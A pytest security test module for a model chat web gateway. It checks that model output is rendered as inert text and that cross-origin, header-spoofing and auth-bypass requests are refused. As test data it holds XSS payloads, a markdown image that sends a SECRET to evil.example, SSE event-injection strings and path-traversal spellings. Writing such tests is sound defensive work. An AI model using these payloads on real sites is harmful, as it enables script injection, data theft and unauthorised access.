"""What hostile text, streams and pages of others try, each by itself: in a real browser, on one page and one server."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import httpx
import psutil
import pytest
import redis
from playwright.sync_api import Browser

from gateways.web.app import create_app
from shared.settings import Settings
from tests.support.processes import Site, Worker, until
from tests.support.valkey import valkey
from tests.web.browser.conftest import Opens
from tests.web.conftest import api, chatter, place
from tests.web.support import serve

__all__ = ["api", "chatter", "place", "valkey"]

pytestmark = [pytest.mark.timeout(120), pytest.mark.usefixtures("chatter")]

TOKEN = "a-token-of-the-owner-0123456789"
# What a model may have been made to say, by what it is after.
TEXTS = {
    "a script": "<script>pwned('script')</script>",
    "a picture that fails": "<img src=x onerror=pwned('img')>",
    "a link that runs": "[a](javascript:pwned('link'))",
    "a link that runs, apart": "[a](JaVa\tscript:pwned('apart'))",
    "a link that runs, encoded": "[a](java&#x73;cript:pwned('encoded'))",
    "a link of another language": "[a](vbscript:pwned)",
    "a link to a document within": "[a](data:text/html,<script>pwned('data')</script>)",
    "a picture that tells": "![x](https://evil.example/?d=SECRET)",
    "a drawing that loads": "<svg/onload=pwned('svg')>",
    "a link with a blank before": "<a href=' javascript:pwned(1)'>x</a>",
    "a fold that opens": "<details ontoggle=pwned('details') open>x</details>",
    "a title that breaks out": "[x](https://a.example 'a\" onmouseover=pwned(1)')",
    "a title of nothing": "[x](u 'a\" onmouseover=pwned(1)')",
    "colours of a terminal": "\x1b[31mred\x1b]8;;javascript:pwned(1)\x07x\x1b[0m<script>pwned('ansi')</script>",
    "a frame": "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "a style": "<style>@import 'https://evil.example/x.css';</style>",
    "a form": "<form action=https://evil.example><input autofocus onfocus=pwned('form')></form>",
}
# What would be more than one event, or another one, if it were written into a stream as it is.
EVENTS: dict[str, dict[str, Any]] = {
    "a name with a line break": {"event": "chunk\nevent: done\ndata: {}\n", "content": "x"},
    "a new pause": {"event": "chunk", "content": "retry: 0\n\nretry: 0"},
    "an event within": {"event": "chunk", "content": "a\n\nevent: done\ndata: {}\n\nb"},
    "a comment within": {"event": "chunk", "content": ": a comment\n: another\n\n:"},
    "an id within": {"event": "chunk", "content": "x\nid: 999999999999-0\n\n"},
    "line breaks of other alphabets": {"event": "chunk", "content": "one\u2028two\u2029three\x85four"},
}
NAMES = {name: f"say {number}" for number, name in enumerate(TEXTS)}
RULES: list[dict[str, Any]] = [
    *(
        {"user": f"{NAMES[name]}.", "steps": [{"text": f"{text}\n\nThe end.", "pace": 0.002}]}
        for name, text in TEXTS.items()
    ),
    {"steps": [{"text": "You said: {{user}}"}]},
]
INSIDE = """() => [...document.querySelectorAll('#entries *')].flatMap(one => [
  ...(['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'LINK', 'BASE'].includes(one.tagName)
    && !one.closest('form[action^="/"]') ? [one.tagName] : []),
  ...[...one.attributes].map(a => a.name).filter(a => a.startsWith('on') || a === 'srcdoc' || a === 'style'),
  ...(one.tagName === 'IMG' ? [one.src] : []),
  ...(one.href && !/^(https?:|mailto:|\\/|#)/.test(one.getAttribute('href')) ? [one.getAttribute('href')] : []),
])"""


@pytest.fixture(scope="module")
def web(place: Site) -> Worker:
    """The page's process."""
    worker, address = serve(place)
    worker.url = address  # type: ignore[attr-defined]
    return worker


@pytest.fixture(scope="module")
def url(web: Worker) -> str:
    return str(web.url)  # type: ignore[attr-defined]


@pytest.mark.parametrize("name", TEXTS)
def test_what_a_model_says_is_text(opens: Opens, name: str) -> None:
    here = opens(f"/chat/attack-{list(TEXTS).index(name)}")
    here.page.evaluate("window.pwned = what => { window.was = what; }")
    here.says(f"{NAMES[name]}.")
    here.hears("The end.")
    assert here.page.evaluate(INSIDE) == []
    for link in here.page.locator("#entries .entry:not(.said) a:not([href^='/'])").all():
        assert (link.get_attribute("rel") or "").find("noopener") >= 0
        link.hover()
    assert here.page.evaluate("window.was") is None
    here.is_sound()


COUNT = """session => {
  window.told = [];
  const stream = new EventSource(`/api/sessions/${session}/events`);
  for (const kind of ['hello', 'chunk', 'done', 'again', 'message', 'error'])
    stream.addEventListener(kind, event => window.told.push([kind, event.data, event.lastEventId]));
  return new Promise(ready => stream.addEventListener('hello', () => ready()));
}"""


@pytest.fixture(scope="module")
def session_of_streams(place: Site) -> Iterator[redis.Redis]:
    with redis.Redis.from_url(place.url) as server:
        yield server


@pytest.mark.parametrize("name", EVENTS)
def test_what_is_in_an_event_is_one_event(
    opens: Opens, place: Site, session_of_streams: redis.Redis, name: str
) -> None:
    here, session = opens("/more"), f"stream-{list(EVENTS).index(name)}"
    here.page.evaluate(COUNT, session)
    for event in (EVENTS[name], {"event": "chunk", "content": "last"}):
        data = json.dumps(event)
        session_of_streams.xadd(place.names.stream(session), {"data": data})
        session_of_streams.publish(place.names.channel(f"events:{session}"), data)
    seen = "window.told.some(one => (one[1] || '').includes('last'))"
    until(lambda: here.page.evaluate(seen), what="the last event")  # a waiting script would be an eval
    told = [one for one in here.page.evaluate("window.told") if one[0] != "hello"]
    known = [EVENTS[name]["content"], "last"] if EVENTS[name]["event"] == "chunk" else ["last"]
    assert [json.loads(data)["content"] for _, data, _ in told] == known
    assert all(kind == "chunk" and id.partition("-")[0].isdigit() for kind, _, id in told)
    here.is_sound()


@pytest.mark.parametrize("last", ["../", "9" * 40, "9999999999999-0,1-1", "-1", "é", "0-0-0", "1-0\tx"])
def test_a_cursor_of_nonsense_begins_a_stream(url: str, last: str) -> None:
    headers = [(b"Last-Event-ID", last.encode())]
    with httpx.stream("GET", f"{url}/api/sessions/odd/events", headers=headers, trust_env=False) as answer:
        assert answer.status_code == 200
        assert next(answer.iter_lines()) == "event: hello"


def sent(url: str, text: str) -> bytes:
    """The beginning of what comes back for these bytes."""
    where = urlsplit(url)
    with socket.create_connection((where.hostname or "", where.port or 0), 20) as line:
        line.sendall(text.replace("HOST", where.netloc).encode("latin-1"))
        return line.recv(4000)


def tasks(place: Site) -> list[dict[str, Any]]:
    return place.query("SELECT slug, status FROM tasks ORDER BY slug")


@contextmanager
def page_of_others(html: str) -> Iterator[str]:
    """A page of somebody else's, in another place; its address."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_words: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()
        thread.join()


TRIES = """async url => {
  const told = {};
  const body = JSON.stringify({title: 'made by others', description: 'x'});
  for (const [name, how] of Object.entries({
    read: {path: '/api/tasks'},
    json: {path: '/api/tasks', method: 'POST', body, headers: {'content-type': 'application/json'}},
    plain: {path: '/api/tasks', method: 'POST', body, headers: {'content-type': 'text/plain'}, mode: 'no-cors'},
    form: {path: '/chat/x/say', method: 'POST', body: new URLSearchParams({text: 'made by others'}), mode: 'no-cors'},
  })) {
    try {
      const answer = await fetch(url + how.path, {credentials: 'include', ...how});
      told[name] = answer.type === 'opaque' ? 'opaque' : await answer.text();
    } catch { told[name] = 'refused'; }
  }
  told.socket = await new Promise(done => {
    const line = new WebSocket(url.replace('http', 'ws') + '/api/events');
    line.onopen = () => done('open'); line.onerror = () => done('refused');
  });
  return told;
}"""


@pytest.mark.parametrize("sandboxed", [False, True], ids=["another origin", "no origin at all"])
def test_a_page_of_others_reads_and_changes_nothing(
    browser: Browser, url: str, place: Site, sandboxed: bool
) -> None:
    before = tasks(place)
    frame = "<iframe sandbox='allow-scripts' srcdoc='<p>inside</p>'></iframe>"
    context = browser.new_context()
    with page_of_others(frame) as others:
        page = context.new_page()
        page.goto(others)
        inside = page.frames[1] if sandboxed else page.main_frame
        told = inside.evaluate(TRIES, url)
    context.close()
    assert set(told.values()) == {"refused"} and len(told) == 5
    assert tasks(place) == before
    assert place.query("SELECT id FROM messages WHERE CAST(payload AS TEXT) LIKE '%made by others%'") == []


def test_a_page_of_others_cannot_frame_ours(browser: Browser, url: str) -> None:
    context = browser.new_context()
    with page_of_others(f"<iframe src='{url}/inbox' width=900 height=900></iframe>") as others:
        page = context.new_page()
        page.goto(others)
        page.wait_for_timeout(300) if len(page.frames) < 2 else None
        assert page.frames[1].locator("#view").count() == 0
    context.close()


HTTP = "HTTP/1.1\r\nHost: HOST\r\n"
JSON = "Content-Type: application/json\r\nContent-Length: 2\r\n"
UPGRADE = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
)


@pytest.mark.parametrize(
    ("name", "request_"),
    [
        (
            "a preflight",
            f"OPTIONS /api/tasks {HTTP}Origin: null\r\nAccess-Control-Request-Method: POST\r\n\r\n",
        ),
        ("an upgrade", f"GET /api/events {HTTP}Origin: https://evil.example\r\n{UPGRADE}\r\n"),
        ("another host", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        ("two hosts", f"GET /api/tasks {HTTP}Host: evil.example\r\n\r\n"),
        ("no origin", f"POST /api/tasks {HTTP}Origin: null\r\n{JSON}\r\n{{}}"),
    ],
    ids=lambda value: value if " /" not in value else "",
)
def test_requests_that_pages_of_others_cause_are_refused(url: str, name: str, request_: str) -> None:
    came = sent(url, request_)
    head = came.partition(b"\r\n\r\n")[0].lower()
    assert b"access-control-allow-origin" not in head and b"101 switching" not in head
    if name != "an upgrade":  # which is answered as the plain request that is left of it
        assert came[9:10] == b"4", came[:200]


@pytest.mark.parametrize("header", ["X-Forwarded-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL"])
def test_what_a_proxy_would_say_is_not_believed(url: str, header: str) -> None:
    value = "host=evil.example" if header == "Forwarded" else "evil.example"
    with httpx.Client(base_url=url, headers={header: value}, trust_env=False) as web:
        for path in ("/", "/chat", "/sign-in", "/api/health"):
            answer = web.get(path)
            assert "evil.example" not in answer.text + str(dict(answer.headers))


def test_get_changes_nothing(url: str, place: Site) -> None:
    app = create_app(Settings.model_validate({"PROMPTDOCK_HOME": str(place.home)}))
    schema = app.openapi()["paths"]
    changing = [path for path, methods in schema.items() if "get" not in methods]
    changing += [
        "/chat/x/say",
        "/chat/x/stop",
        "/tasks/x/act",
        "/approvals/x",
        "/dead",
        "/models/key",
        "/sign-out",
    ]
    before = (tasks(place), place.query("SELECT count(*) AS n FROM audit_log"))
    with httpx.Client(base_url=url, trust_env=False) as web:
        for path in changing:
            if not path.startswith(("/mcp", "/ag-ui")):
                assert web.get(path.replace("{", "").replace("}", "")).status_code < 500, path
    assert (tasks(place), place.query("SELECT count(*) AS n FROM audit_log")) == before


def test_it_listens_on_this_machine_alone(web: Worker) -> None:
    lines = psutil.Process(web.process.pid).net_connections("tcp")
    assert {one.laddr.ip for one in lines if one.status == psutil.CONN_LISTEN} == {"127.0.0.1"}


@pytest.fixture(scope="module")
def closed(place: Site) -> str:
    """Where one has to show a token."""
    return serve(place, PROMPTDOCK_WEB_TOKEN=TOKEN)[1]


@pytest.mark.parametrize(
    "path",
    [
        f"/api/tasks?token={TOKEN}",
        f"/api/tasks?access_token={TOKEN}",
        f"/api/tasks;token={TOKEN}",
        "//api/tasks",
        "/api/health/../tasks",
        "/api/health/..%2ftasks",
        "/api/health/..;/tasks",
        "/api%2ftasks",
        "/API/tasks",
        "/Api/Tasks",
        "/static/../api/tasks",
        "/static/%2e%2e/api/tasks",
        "/sign-in/../api/tasks",
        "/sign-in/%2e%2e%2fapi%2ftasks",
        "/./api/tasks",
        "/api/tasks%00",
        "/api/tasks/",
    ],
)
def test_no_spelling_of_an_address_lets_anybody_in(closed: str, path: str) -> None:
    came = sent(closed, f"GET {path} HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n")
    assert came[9:12] in (b"401", b"303", b"404", b"400"), came[:300]
    assert b'"tasks"' not in came


@pytest.mark.parametrize(
    "given", ["", "Bearer", f"Bearer {TOKEN[:-1]}", f"Bearer  x{TOKEN}", f"Basic {TOKEN}", TOKEN]
)
def test_no_other_token_lets_anybody_in(closed: str, given: str) -> None:
    with httpx.Client(base_url=closed, headers={"authorization": given}, trust_env=False) as web:
        assert web.get("/api/tasks").status_code == 401
    until(lambda: httpx.get(f"{closed}/api/health", trust_env=False).status_code == 200, what="its health")
